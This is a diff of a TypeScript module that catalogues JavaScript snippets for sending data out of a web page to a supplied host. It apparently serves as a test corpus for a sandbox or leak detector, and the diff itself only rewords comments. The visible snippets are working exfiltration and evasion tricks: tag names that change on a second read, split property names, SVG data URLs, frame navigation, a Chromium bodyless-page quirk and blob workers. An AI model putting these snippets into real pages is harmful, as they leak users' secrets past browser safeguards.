@@ -1,8 +1,8 @@
 import { NESTED_REALMS } from './nested-realms.ts';
 
 /**
- * Ways in which a program could tell a stranger something: each asks for a connection to `host`, which has the name of the
- * way in it, as a secret would be.
+ * Ways in which a program could send a stranger data: each requests a connection to `host`, whose name contains the
+ * name of the way, as it would contain a secret.
  */
 export type Way = (host: string) => string;
 
@@ -163,7 +163,7 @@ const FRAMES: Record<string, Way> = {
     `const made = document.createElement('object'); made.type = 'image/svg+xml'; made.data = 'data:image/svg+xml,' + encodeURIComponent(${text(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${url(host)}"/></svg>`)}); document.body.append(made);`,
 };
 
-/** Names and texts that mean something else when they are read a second time, and what reads them changed. */
+/** Names and texts with another meaning when they are read a second time, and changed functions that read them. */
 const TRICKS: Record<string, Way> = {
   'name that changes': (host) =>
     `let asked = 0; const name = { toString: () => (asked++ ? 'iframe' : 'div') }; const made = document.createElement(name); made.src = '${url(host)}'; document.body.append(made);`,
@@ -449,7 +449,7 @@ export const LEAVING: Record<string, Way> = {
     `const set = document.createElement('frameset'); const made = document.createElement('frame'); made.src = '${url(host)}'; set.append(made); document.documentElement.replaceChildren(set);`,
 };
 
-/** Ways to leave a page that has no body: Chromium asks none whether its program may leave. */
+/** Ways to leave a page that has no body: Chromium does not ask such pages whether their program may leave. */
 export const BODYLESS: Record<string, Way> = {
   'location without a body': (host) =>
     `document.body.remove(); window['loc' + 'ation'].assign('${url(host)}');`,
@@ -497,7 +497,7 @@ const WORKERS: Record<string, Way> = {
     `for (const Made of [Worker.prototype.constructor, Object.getPrototypeOf(Worker)]) { try { new Made(URL.createObjectURL(new Blob([${text(`new WebTransport('${url(host)}')`)}]))); } catch {} }`,
 };
 
-/** Code of JavaScript in the page, in which none stops the others. */
+/** JavaScript code in the page; no way stops the others. */
 export const STAYING: Record<string, Way> = {
   ...FRAMES,
   ...TRICKS,
